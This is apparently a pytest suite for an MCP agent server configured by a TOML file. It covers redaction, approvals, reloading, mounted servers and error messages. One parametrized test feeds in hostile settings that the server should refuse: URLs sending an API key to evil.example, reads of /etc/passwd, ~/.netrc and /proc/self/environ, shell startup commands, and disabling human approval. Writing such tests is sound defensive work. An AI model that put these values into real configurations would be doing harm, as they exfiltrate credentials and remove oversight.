"""A server whose agent a file describes: from the file to what clients and models see."""

from __future__ import annotations

import json
import re
import sys
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import pytest
import yaml
from click.testing import CliRunner
from mcp import Client

from deep_agent_mcp.server.app import App, create_app
from deep_agent_mcp.server.cli.main import cli
from deep_agent_mcp.server.settings.agent_layer import agent_schema
from deep_agent_mcp.server.settings.settings import SettingsError
from deep_agent_mcp.server.settings.sources import load_settings
from tests.e2e.servers import call, text_of
from tests.server.test_config_reload import until
from tests.skills.folders import save_by_rename

pytestmark = pytest.mark.anyio

ROOT = Path(__file__).parents[2]
TICKETS = '''
def find(word: str) -> str:
    """Find tickets.

    Args:
        word: What to look for.
    """
    return f"{word}: ask ann@example.com"
'''

FILE = """\
[agent]
name = "main"
model = "scripted:script.yaml"
instructions = "You release software."
tools = ["{module}:find"]
approve = ["write_file"]

[agent.limits]
model_calls = 20

[server]
wait_budget = 20
limits = {{ seconds = 600 }}

[[middleware]]
use = "pii"
pii_type = "email"
apply_to_tool_results = true

[files]
"/" = {{ root = "work" }}

[agents.reviewer]
description = "Reviews a change"
instructions = "Read it twice."
"""

SCRIPT = {
    "runs": [
        {
            "match": "tickets",
            "agents": {
                "main": [
                    {"tool_calls": [{"name": "find", "args": {"word": "login"}}]},
                    {"text": "Found."},
                ]
            },
        },
    ],
    "agents": {"reviewer": [{"text": "It is fine."}], "*": [{"text": "Done."}]},
}


class Served:
    """An agent file in a folder of its own, and what reads it as the command line does."""

    def __init__(self, folder: Path, **flags: Any) -> None:
        self.folder = folder
        self.path = folder / "deep-agent.toml"
        self.flags = {"agent_file": str(self.path), "state_dir": str(folder / "state"), **flags}
        (folder / "work").mkdir()
        self.module = f"tickets_{folder.name}".replace("-", "_")
        (folder / f"{self.module}.py").write_text(TICKETS, encoding="utf-8")
        script = yaml.safe_dump(SCRIPT)
        (folder / "script.yaml").write_text(script, encoding="utf-8")
        self.text = FILE.format(module=self.module).replace(
            "scripted:script.yaml", f"scripted:{folder / 'script.yaml'}"
        )
        self.save(self.text)

    def save(self, text: str) -> None:
        save_by_rename(self.path, text)

    def read(self) -> Any:
        return load_settings(self.flags, {})

    @asynccontextmanager
    async def running(self) -> AsyncGenerator[tuple[App, Client]]:
        with anyio.fail_after(60):
            async with create_app(self.read(), self.read) as app, Client(app.server) as client:
                yield app, client


async def test_the_agent_of_a_file_works_with_its_tool_its_redaction_and_its_approvals(
    tmp_path: Path,
) -> None:
    served = Served(tmp_path)
    async with served.running() as (app, client):
        done = await call(client, "task", goal="Look at the tickets")
        assert (done["status"], done["answer"]) == ("done", "Found.")
        agent = app.agent()
        messages = str((await agent.get_state(done["thread_id"])).values["messages"])
        assert "ann@example.com" not in messages and "[REDACTED" in messages
        asked = await call(client, "write_file", path="/a.txt", content="x")
        assert asked["status"] == "needs_approval"
        sections = [one.text for one in agent.definition.system]
        assert any("You release software." in one for one in sections)
        settings = app.settings.current
        assert (settings.limits.model_calls, settings.limits.seconds) == (20, 600)
        assert settings.root == tmp_path / "work"


async def test_a_subagent_of_the_file_is_offered_and_works(tmp_path: Path) -> None:
    async with Served(tmp_path).running() as (app, client):
        tools = {one.name: one for one in (await client.list_tools()).tools}
        assert "Reviews a change" in json.dumps(tools["task"].input_schema)
        done = await call(client, "task", goal="Do a review for ann@example.com", agent="reviewer")
        assert "It is fine." in done["answer"]
        shown = (await app.runs.snapshot(done["run_id"])).run.goal
        assert shown == "Do a review for [REDACTED_EMAIL]"


async def test_clients_are_told_what_the_agent_is_for_and_which_models_they_may_choose(
    tmp_path: Path,
) -> None:
    served = Served(tmp_path)
    more = 'description = "Keeps the changelog."\nmodels = ["scripted:*"]'
    served.save(served.text.replace('name = "main"', f'name = "main"\n{more}'))
    async with served.running() as (_, client):
        tools = {one.name: one for one in (await client.list_tools()).tools}
        properties = tools["task"].input_schema["properties"]
        assert "About it: Keeps the changelog." in properties["agent"]["description"]
        assert "Allowed: scripted:*" in properties["model"]["description"]


async def test_a_saved_file_counts_for_new_runs_and_a_broken_one_does_not(tmp_path: Path) -> None:
    served = Served(tmp_path)
    async with served.running() as (app, client):
        await call(client, "task", goal="x")

        def prompt() -> str:
            return str([one.text for one in app.agent().definition.system])

        served.save(served.text.replace("You release software.", "You write notes."))
        await until(lambda: "You write notes." in prompt())
        served.save(served.text.replace("instructions", "instrctions"))
        await until(lambda: app.settings.errors)
        ((path, problem),) = app.settings.errors.items()
        assert path == str(served.path) and "'instructions'" in problem
        assert "last good settings stay in force" in problem
        assert "You write notes." in prompt()
        changed = served.text.replace("[agents.reviewer]", "[agents.critic]")
        served.save(changed)
        await until(lambda: not app.settings.errors)
        assert "critic" in app.agent.of().parts.subagents.subagents
        assert (await call(client, "task", goal="x", agent="critic"))["status"] == "done"


async def test_files_store_and_cache_that_are_saved_count_for_new_runs(tmp_path: Path) -> None:
    served = Served(tmp_path)
    text = served.text.replace('approve = ["write_file"]\n', "")
    served.save(text)
    async with served.running() as (app, client):
        before = app.agent().definition
        await call(client, "write_file", path="/scratch/a.md", content="on disk")
        assert (tmp_path / "work" / "scratch" / "a.md").read_text() == "on disk"
        tables = '[files]\n"/scratch" = { thread = true }\n"/memories" = { store = true }'
        kept = '\n[store]\nurl = "memory:"\n[cache]\nurl = "memory:"\n'
        text = text.replace("[files]", tables) + kept
        served.save(text)
        await until(lambda: app.agent().definition.answers is not None)
        now = app.agent().definition
        assert (before.store, before.answers) == (None, None)
        wrote = await call(client, "write_file", path="/scratch/b.md", content="in the thread")
        await call(client, "write_file", path="/memories/c.md", content="in the store")
        assert not (tmp_path / "work" / "scratch" / "b.md").exists()
        assert not (tmp_path / "work" / "memories").exists()
        thread = wrote["thread_id"]
        here = {"path": "/scratch/b.md", "thread_id": thread}
        assert "in the thread" in text_of(await client.call_tool("read_file", here))
        assert now.store is not None and "in the store" in str(await now.store.search())
        served.save(text.replace("You release software.", "You write notes."))
        await until(lambda: app.agent().definition is not now)
        assert app.agent().definition.store is now.store  # and keeps what it has
        assert not app.settings.waiting


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ('"memory:"', '"redis://h:port/0"', "not a URL of a Redis server"),
        ('"memory:"', '"rdis://h/0"', "redis:"),
        ("[store]", '[cache]\nurl = "sqlite:"\n[store]', "a file is expected"),
        ("[files]", '[files]\n"/x" = { }', "exactly one"),
    ],
)
async def test_a_place_that_cannot_be_used_leaves_the_last_good_one(
    tmp_path: Path, old: str, new: str, problem: str
) -> None:
    served = Served(tmp_path)
    text = served.text + '\n[store]\nurl = "memory:"\n'
    served.save(text)
    async with served.running() as (app, client):
        store = app.agent().definition.store
        served.save(text.replace(old, new))
        await until(lambda: app.settings.errors)
        assert problem in str([*app.settings.errors.values()])
        assert app.agent().definition.store is store
        assert (await call(client, "task", goal="x"))["status"] == "done"


async def test_what_waits_for_the_next_start_is_named(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    served = Served(tmp_path)
    served.flags["execute"] = "host"
    async with served.running() as (app, _):
        route = '[files]\n"/scratch" = { thread = true }'
        journal = '\n[journal]\nurl = "memory:"\n'
        served.save(served.text.replace("[files]", route) + journal)
        await anyio.to_thread.run_sync(app.settings.reload)
        told = f"{served.path}: journal, [files]: takes effect when the server is started again"
        assert told in caplog.text
        assert app.status()["waiting_for_restart"] == ["journal", "[files]"]
        served.save(served.text)
        await anyio.to_thread.run_sync(app.settings.reload)
        assert "waiting_for_restart" not in app.status()


async def test_text_in_files_of_their_own_is_followed_too(tmp_path: Path) -> None:
    served = Served(tmp_path)
    notes = tmp_path / "notes.md"
    notes.write_text("First words.", encoding="utf-8")
    served.save(served.text.replace('"You release software."', '{ file = "notes.md" }'))
    async with served.running() as (app, _):
        assert "First words." in str(app.agent().definition.system)
        save_by_rename(notes, "Second words.")
        await until(lambda: "Second words." in str(app.agent().definition.system))


async def test_nothing_an_agent_file_is_made_of_can_be_changed_by_agents(tmp_path: Path) -> None:
    served = Served(tmp_path)
    inside = tmp_path / "work" / "agent.toml"
    notes = tmp_path / "work" / "notes.md"
    code = tmp_path / "work" / f"{served.module}_in.py"
    notes.write_text("Words.", encoding="utf-8")
    code.write_text(TICKETS, encoding="utf-8")
    text = served.text.replace('"You release software."', '{ file = "notes.md" }')
    text = text.replace(f"{served.module}:find", f"{served.module}_in:find")
    inside.write_text(text.replace('root = "work"', 'root = "."'), encoding="utf-8")
    served.flags["agent_file"] = str(inside)
    async with served.running() as (_, client):
        for path in (inside, notes, code):
            wrote = await client.call_tool("write_file", {"path": f"/{path.name}", "content": "x"})
            assert wrote.is_error and "whoever runs the server" in text_of(wrote)
    assert (notes.read_text(), code.read_text()) == ("Words.", TICKETS)


@pytest.mark.parametrize(
    ("flag", "given"), [("limits", {}), ("approve", ("ls",)), ("model", "anthropic:claude-x")]
)
def test_flags_win_over_the_file(flag: str, given: Any, tmp_path: Path) -> None:
    served = Served(tmp_path, **({flag: given} if given else {}))
    settings = served.read()
    if given:
        assert getattr(settings, flag) == given
    else:
        assert settings.limits.model_calls == 20


def test_a_setting_in_both_files_is_refused_with_both_places(tmp_path: Path) -> None:
    served = Served(tmp_path)
    config = tmp_path / "config.toml"
    config.write_text('approve = ["ls"]\n', encoding="utf-8")
    with pytest.raises(SettingsError) as refused:
        load_settings(served.flags, {}, config=config)
    told = str(refused.value)
    assert str(config) in told and f"{served.path}:6, key agent.approve" in told


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("[server]\nprt = 3", "key 'prt'|setting 'prt'.*'port'"),
        ("[server]\nport = 'x'", r"deep-agent.toml:2, key server.port"),
        ("[agent]\nmodel = 'nobody:x'", r"deep-agent.toml:2, key agent.model"),
        ("[agent]\napprove = 'x'", r"deep-agent.toml:2, key agent.approve"),
        ("[agent.limits]\ncost = -1", r"deep-agent.toml:2, key agent.limits.cost"),
        ("[server]\nagent_file = 'x'", "no setting 'agent_file'"),
        ("server = 3", "server: a table"),
        ("[sever]\nport = 1", r"toml:1: sever: there is no table 'sever'\. Did you mean 'server'"),
        ("[agent.limits]\ncosts = 1", r"toml:2: agent\.limits\.costs: there is no limit .*'cost'"),
        ("[agent]\nstate_schema = { import = 'os:sep' }", "toml:2: .*must be a TypedDict; got '"),
        (
            "[[middleware]]\nuse = 'tool_retry'\nmax_retries = 'many'",
            r"toml:3: middleware\[0\]\.max_retries: expected a whole number; got 'many'",
        ),
        ("[[middleware]]\nuse = 'pii'", r"toml:1: middleware\[0\]: pii needs pii_type"),
        ("[agent]\ninstructions = { fil = 'x' }", r"toml:2: agent\.instructions: expected a text"),
    ],
)
def test_wrong_settings_are_named_with_their_line(line: str, told: str, tmp_path: Path) -> None:
    file = tmp_path / "deep-agent.toml"
    file.write_text(line, encoding="utf-8")
    with pytest.raises(SettingsError, match=told):
        load_settings({"agent_file": str(file)}, {})


# --- mounted servers -------------------------------------------------------------------------

RAW = ["-S", "-E", "-m", "tests.mcp_servers.raw_server"]


def mounting(served: Served, **servers: str) -> None:
    """Add servers by name, each with its habit; see `raw_server`."""
    tables = [
        f'[mcp_servers.{name}]\ncommand = "{sys.executable}"\n'
        f'args = {json.dumps([*RAW, habit])}\ncwd = "{ROOT}"\ntools = ["echo"]\n'
        for name, habit in servers.items()
    ]
    served.save("\n".join([served.text, *tables]))
    script = {
        "agents": {
            "*": [
                {"tool_calls": [{"name": "notes_echo", "args": {"text": "hello"}}]},
                {"text": "Echoed."},
            ]
        }
    }
    (served.folder / "script.yaml").write_text(yaml.safe_dump(script), encoding="utf-8")


async def test_tools_of_mounted_servers_work_and_broken_ones_stop_nothing(tmp_path: Path) -> None:
    served = Served(tmp_path)
    mounting(served, notes="behaves", gone="quits")
    async with served.running() as (app, client):
        await client.list_tools()
        assert app.status()["mcp_servers"] == {"notes": "not connected", "gone": "not connected"}
        done = await call(client, "task", goal="Use the notes")
        assert done["status"] == "done"
        messages = str((await app.agent().get_state(done["thread_id"])).values["messages"])
        assert "hello" in messages
        status = app.status()["mcp_servers"]
        assert isinstance(status, dict) and status["notes"] == "connected"
        assert "gone" in status and status["gone"] not in ("connected", "not connected")


async def test_a_file_of_servers_as_clients_have_it_is_taken(tmp_path: Path) -> None:
    served = Served(tmp_path)
    entry = {"command": sys.executable, "args": [*RAW, "behaves"], "cwd": str(ROOT)}
    file = tmp_path / ".mcp.json"
    file.write_text(json.dumps({"mcpServers": {"notes": entry}}), encoding="utf-8")
    served.save(f'mcp_servers = ".mcp.json"\n{served.text}')
    definition = served.read().definition
    assert [*definition.parts.mcp_servers] == ["notes"] and file in definition.named


async def test_a_changed_file_of_servers_is_used_by_the_next_run(tmp_path: Path) -> None:
    served = Served(tmp_path)
    entry = {"command": sys.executable, "args": [*RAW, "behaves"], "cwd": str(ROOT)}
    file = tmp_path / ".mcp.json"
    save_by_rename(file, json.dumps({"mcpServers": {"notes": entry}}))
    served.save(f'mcp_servers = ".mcp.json"\n{served.text}')

    def mounted(app: App) -> object:
        app.agent()
        return app.status()["mcp_servers"]

    async with served.running() as (app, _):
        assert mounted(app) == {"notes": "not connected"}
        save_by_rename(file, json.dumps({"mcpServers": {"plans": entry}}))
        await until(lambda: mounted(app) == {"plans": "not connected"})


def test_the_doctor_says_how_mounted_servers_are(tmp_path: Path) -> None:
    served = Served(tmp_path)
    mounting(served, notes="behaves", gone="quits")
    state = str(tmp_path / "state")
    args = ["--client", "cursor", "--", "--agent", str(served.path), "--state-dir", state]
    said = CliRunner().invoke(cli, ["doctor", *args]).output
    assert "MCP server notes" in said and "connected, 1 tools" in said
    assert "MCP server gone" in said


@pytest.mark.parametrize(
    ("table", "told"),
    [
        ('comand = "x"', r"mcp_servers.notes: .*no key 'comand'\. Did you mean 'command'"),
        ('args = ["x"]', r"mcp_servers.notes: .*`command` or `url` is expected"),
        ('command = "x"\nenv = { A = "${NO_SUCH}" }', r"mcp_servers.notes: .*NO_SUCH"),
        ('url = "ftp://x"', r"mcp_servers.notes: .*ftp"),
    ],
)
def test_wrong_tables_of_servers_are_named(table: str, told: str, tmp_path: Path) -> None:
    file = tmp_path / "deep-agent.toml"
    file.write_text(f"[mcp_servers.notes]\n{table}\n", encoding="utf-8")
    with pytest.raises(SettingsError, match=r"deep-agent\.toml:\d+: " + told):
        load_settings({"agent_file": str(file)}, {})


# --- files -----------------------------------------------------------------------------------


async def test_routes_of_files_lie_over_the_root(tmp_path: Path) -> None:
    served = Served(tmp_path)
    handbook = tmp_path / "handbook"
    handbook.mkdir()
    (handbook / "a.md").write_text("Be kind.", encoding="utf-8")
    routes = '"/scratch" = { thread = true }\n"/handbook" = { root = "handbook", read_only = true }'
    text = served.text.replace("[files]", f"[files]\n{routes}").replace('"write_file"', '"x"')
    served.save(text)
    async with served.running() as (_, client):
        thread = {"thread_id": (await call(client, "ls"))["thread_id"]}
        await call(client, "write_file", path="/scratch/a.txt", content="x", **thread)
        await call(client, "write_file", path="/b.txt", content="y", **thread)
        assert [one.name for one in (tmp_path / "work").iterdir()] == ["b.txt"]
        read = await client.call_tool("read_file", {"path": "/handbook/a.md", **thread})
        assert "Be kind." in text_of(read)
        wrote = await client.call_tool("write_file", {"path": "/handbook/b", "content": "x"})
        assert wrote.is_error and not (handbook / "b").exists()
        asked = await call(client, "write_file", path="/.mcp.json", content="{}", **thread)
        assert asked["status"] == "needs_approval"


async def test_without_a_root_a_route_to_the_thread_is_where_all_files_are(tmp_path: Path) -> None:
    served = Served(tmp_path)
    root = '"/" = { root = "work" }'
    served.save(served.text.replace(root, '"/scratch" = { thread = true }').replace("write_", "x"))
    async with served.running() as (_, client):
        wrote = await call(client, "write_file", path="/scratch/a.txt", content="x")
        read = await client.call_tool(
            "read_file", {"path": "/scratch/a.txt", "thread_id": wrote["thread_id"]}
        )
        assert "x" in text_of(read) and not read.is_error


@pytest.mark.parametrize(
    ("route", "told"),
    [
        ('"/docs" = { root = "." }', "add read_only = true"),
        ('"/" = { root = ".", read_only = true }', "a policy that denies write_file"),
        ('"docs" = { store = true }', "begin with /"),
        ('"/docs" = { store = true, thread = true }', "one of root"),
        ('"/docs" = { stroe = true }', "'store'"),
        ('"/docs" = { backend = { import = "os:sep" } }', "backend"),
    ],
)
def test_wrong_routes_are_named(route: str, told: str, tmp_path: Path) -> None:
    file = tmp_path / "deep-agent.toml"
    file.write_text(f"[files]\n{route}\n", encoding="utf-8")
    with pytest.raises(SettingsError, match=r"deep-agent\.toml:2: files\..*" + told):
        load_settings({"agent_file": str(file)}, {})


@pytest.mark.parametrize(
    "text",
    [
        '[agent]\nmodel = { name = 5, api_key = "s3cret" }',
        '[agent]\nmodel = { nam = "anthropic:x", api_key = "s3cret" }',
        '[agent]\nmodel = ["s3cret"]',
        '[agents.x]\ndescription = "x"\nmodel = { name = 5, api_key = "s3cret" }',
        '[store]\nurl = ["postgresql://ann:s3cret@host/x"]',
        '[journal]\nurl = { a = "redis://:s3cret@host" }',
        '[cache]\nurl = "redis://ann:s3cret@host:bad/x"',
        '[mcp_servers]\nx = "s3cret"',
        '[mcp_servers.x]\nurl = "https://ann:s3cret@host"\nheaders = ["s3cret"]',
        '[mcp_servers.x]\ncommand = "x"\nenv = { KEY = ["s3cret"] }',
        '[mcp_servers.x]\nurl = "https://host"\nauth = { client_secret = "s3cret" }',
        '[files]\n"/x" = { backend = "folder", options = "s3cret" }',
        '[server]\njournal_key = "s3cret"',
        '[server]\njournal = "ftp://ann:s3cret@host"',
    ],
)
def test_what_is_wrong_is_said_without_what_may_be_secret(text: str, tmp_path: Path) -> None:
    file = tmp_path / "agent.toml"
    file.write_text(text, encoding="utf-8")
    with pytest.raises(SettingsError) as refused:
        load_settings({"agent_file": str(file)}, {})
    told = str(refused.value)
    assert "agent.toml" in told and "s3cret" not in told, told


# --- a file in the root ----------------------------------------------------------------------


def in_root(folder: Path, text: str, **flags: Any) -> Any:
    (folder / "deep-agent.toml").write_text(text, encoding="utf-8")
    return load_settings({"root": str(folder), **flags}, {})


def test_a_file_in_the_root_is_read_only_if_the_root_is_trusted(tmp_path: Path) -> None:
    text = '[agent]\ninstructions = "Mine."\n'
    assert in_root(tmp_path, text).definition is None
    described = in_root(tmp_path, text, trust_root=True).definition
    assert described.file.agent.instructions == "Mine."


@pytest.mark.parametrize(
    "text",
    [
        '[agent]\ntools = ["os:getcwd"]',
        '[agent]\nmodel = { import = "os:getcwd" }',
        '[files]\n"/x" = { backend = { import = "os:getcwd" } }',
        '[[middleware]]\nuse = "os:getcwd"',
        '[[middleware]]\nuse = "summarization"\ntoken_counter = { import = "os:getcwd" }',
        '[mcp_servers.x]\ncommand = "sh"',
        '[agents.x]\ndescription = "x"\ntools = ["os:getcwd"]',
        '[agents.x]\ndescription = "x"\nmiddleware = [{ use = "os:getcwd" }]',
        '[server]\nexecute = "host"',
        '[journal]\nurl = "sqlite:///${ANTHROPIC_API_KEY}"',
        '[store]\nurl = "postgresql://evil.example/${ANTHROPIC_API_KEY}"',
        '[cache]\nurl = "sqlite:///home/cache.db"',
        '[files]\n"/" = { root = "/" }',
        '[files]\n"/keys" = { root = "/etc", read_only = true }',
        '[mcp_servers.x]\nurl = "https://evil.example/${ANTHROPIC_API_KEY}"',
        '[mcp_servers.x]\nurl = "https://evil.example"\nheaders = { X = "${ANTHROPIC_API_KEY}" }',
        '[[middleware]]\nuse = "shell"\nstartup_commands = ["touch /tmp/x"]',
        '[[middleware]]\nuse = "file_search"\nroot_path = "/"',
        '[[middleware]]\nuse = "human_in_the_loop"\nenabled = false',
        '[principals.eve]\nagents = ["x"]',
        '[agent]\nmodel = { name = "anthropic:claude-x", base_url = "https://evil.example" }',
        '[agent]\nmodel = { name = "anthropic:claude-x", thinking = "${ANTHROPIC_API_KEY}" }',
        '[agent]\nmodel = "scripted:/etc/passwd"',
        '[agent]\nmodel = { name = "Scripted:/etc/passwd" }',
        '[agent]\npolicy = ["allow.toml"]',
        '[agent]\nprofiles = ["profiles"]',
        '[agent]\nmodels = ["*"]',
        '[agent]\nbeyond_allowed_tools = "allow"',
        "[agent]\nlimits = { cost = 1e9 }",
        "[agent]\nmodel_patience = 1e9",
        '[agent]\nskills = ["/etc"]',
        '[agent]\nagents = "../elsewhere"',
        '[agent]\nmemory = ["AGENTS.md", "~/.netrc"]',
        '[agent]\nmemory = ["sub/../../secret"]',
        '[agent]\ninstructions = { file = "/proc/self/environ" }',
        '[agent]\nanswer = { schema = "../schema.json" }',
        '[agents.x]\ndescription = "x"\nmodel = { name = "anthropic:x", api_key = "k" }',
        '[agents.x]\ndescription = "x"\nmodel = "scripted:/etc/passwd"',
        '[agents.x]\ndescription = "x"\ninstructions = { file = "/proc/self/environ" }',
        '[agents.x]\ndescription = "x"\nanswer = { schema = "/etc/schema.json" }',
        '[agents.x]\ndescription = "x"\nmiddleware = [{ use = "shell" }]',
    ],
)
def test_a_file_in_the_root_only_describes_agents(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "s3cret")
    with pytest.raises(SettingsError) as refused:
        in_root(tmp_path, text, trust_root=True)
    told = str(refused.value)
    assert re.search(r"deep-agent\.toml:\d.*where agents and strangers", told)
    assert "s3cret" not in told
    assert in_root(tmp_path, text).definition is None


def test_what_a_file_in_the_root_may_say_is_taken(tmp_path: Path) -> None:
    (tmp_path / "words.md").write_text("Words.", encoding="utf-8")
    text = """
[agent]
name = "keeper"
description = "Keeps"
instructions = { file = "words.md" }
model = { name = "anthropic:claude-x", max_tokens = 100 }
skills = ["skills"]
memory = ["AGENTS.md"]
approve = ["write_*"]
answer = { schema = { type = "object" } }

[agents.x]
description = "x"
tools = ["ls"]
limits = { model_calls = 3 }
permissions = [{ action = "deny", tool = "write_file" }]
"""
    (tmp_path / "skills").mkdir()
    settings = in_root(tmp_path, text, trust_root=True)
    assert settings.definition.file.agent.instructions == "Words."
    assert settings.memory == (tmp_path / "AGENTS.md",) and settings.approve == ("write_*",)
    (reader,) = settings.definition.parts.subagents
    assert reader.tools == ["ls"] and reader.policy is not None


def test_a_file_in_the_root_reads_nothing_through_a_link_out_of_it(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "secret").write_text("a key", encoding="utf-8")
    (root / "words.md").symlink_to(tmp_path / "secret")
    with pytest.raises(SettingsError, match="link"):
        in_root(root, '[agent]\ninstructions = { file = "words.md" }', trust_root=True)


async def test_agents_cannot_make_the_file_that_would_be_trusted(tmp_path: Path) -> None:
    served = Served(tmp_path, trust_root=True)
    async with served.running() as (_, client):
        wrote = await client.call_tool("write_file", {"path": "/deep-agent.toml", "content": "x"})
        assert wrote.is_error and "whoever runs the server" in text_of(wrote)


# --- the command line ------------------------------------------------------------------------


def test_check_shows_the_agent_and_starts_nothing(tmp_path: Path) -> None:
    served = Served(tmp_path)
    shown = CliRunner().invoke(cli, ["agent", "check", str(served.path)])
    assert shown.exit_code == 0, shown.output
    assert "no problems" in shown.output and "PIIMiddleware[email]" in shown.output
    assert "subagent reviewer: Reviews a change" in shown.output
    assert "find" in shown.output and not (tmp_path / "state").exists()


def test_check_of_a_wrong_file_says_where(tmp_path: Path) -> None:
    served = Served(tmp_path)
    served.save(served.text.replace("pii_type", "pi_type"))
    shown = CliRunner().invoke(cli, ["agent", "check", str(served.path)])
    assert shown.exit_code == 2 and "deep-agent.toml:" in shown.output
    assert "'pii_type'" in shown.output


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (
            "[agent]\ntools = ['textwrap:dedent', 'textwrap:dedent']",
            "2: agent.tools: two tools are named",
        ),
        ("[agent]\n\ninterrupt_before = ['tols']", "3: agent.interrupt_before: there is no node"),
        ("[[middleware]]\nuse = 'filesystem'\nenabled = false", "1: middleware[0]: Filesystem"),
        (
            "[[middleware]]\nuse = 'tool_retry'\nbefore = 'sumarization'",
            "1: middleware[0]: ToolRetryMiddleware cannot be placed",
        ),
        (
            "\n[agents.a]\ndescription = 'x'\ntools = ['reed_file']",
            "2: agents.a: subagent 'a': there is no tool 'reed_file'",
        ),
        ("[journal]\nurl = 'postgresql://u:s3cret@h:port/d'", "its port is not a number"),
        ("[store]\nurl = 'sqlite:'", "a file is expected"),
    ],
)
def test_check_says_where_an_agent_cannot_be_built(text: str, told: str, tmp_path: Path) -> None:
    file = tmp_path / "deep-agent.toml"
    file.write_text(text + "\n", encoding="utf-8")
    shown = CliRunner().invoke(cli, ["agent", "check", str(file)])
    assert shown.exit_code == 2, shown.output
    assert told in shown.stderr and "Traceback" not in shown.output
    assert "s3cret" not in shown.stderr


def test_check_says_which_efforts_there_are_and_nothing_about_runs(tmp_path: Path) -> None:
    file = tmp_path / "agent.toml"
    model = '{ name = "anthropic:claude-sonnet-5-5", effort = "huge" }'
    file.write_text(f'[agent]\nname = "helper"\nmodel = {model}\n', encoding="utf-8")
    shown = CliRunner().invoke(cli, ["agent", "check", str(file)])
    assert shown.exit_code == 2
    assert "effort 'huge' is not one of minimal, low" in shown.stderr
    assert "was run" not in shown.stderr


def test_check_shows_where_things_are_and_agents_that_are_not_there(tmp_path: Path) -> None:
    served = Served(tmp_path)
    principals = (
        '[journal]\nurl = "postgresql://u:s3cret@h/d"\n[principals.ann]\nagents = ["revewer"]'
    )
    served.save(f"{served.text}\n{principals}\n")
    shown = CliRunner().invoke(cli, ["agent", "check", str(served.path)])
    assert shown.exit_code == 0, shown.stderr
    assert "journal: postgresql://h/d" in shown.output and "s3cret" not in shown.output
    assert "note: principals.ann: there is no agent 'revewer'. Did you mean 'revi" in shown.output


def test_the_published_schema_is_that_of_the_code() -> None:
    published = Path(__file__).parents[2] / "docs" / "deep-agent.schema.json"
    assert json.loads(published.read_text(encoding="utf-8")) == agent_schema()


def test_the_schema_accepts_the_file_and_refuses_what_the_server_refuses(tmp_path: Path) -> None:
    import tomllib

    from jsonschema import Draft202012Validator

    validator = Draft202012Validator(agent_schema())
    tables = tomllib.loads(Served(tmp_path).text)
    assert list(validator.iter_errors(tables)) == []
    tables["middleware"][0]["pi_type"] = "x"
    assert list(validator.iter_errors(tables))


async def test_the_middleware_command_lists_the_files_stack(tmp_path: Path) -> None:
    served = Served(tmp_path)
    shown = CliRunner().invoke(cli, ["middleware", "--agent", str(served.path)])
    assert shown.exit_code == 0 and "PIIMiddleware[email]" in shown.output
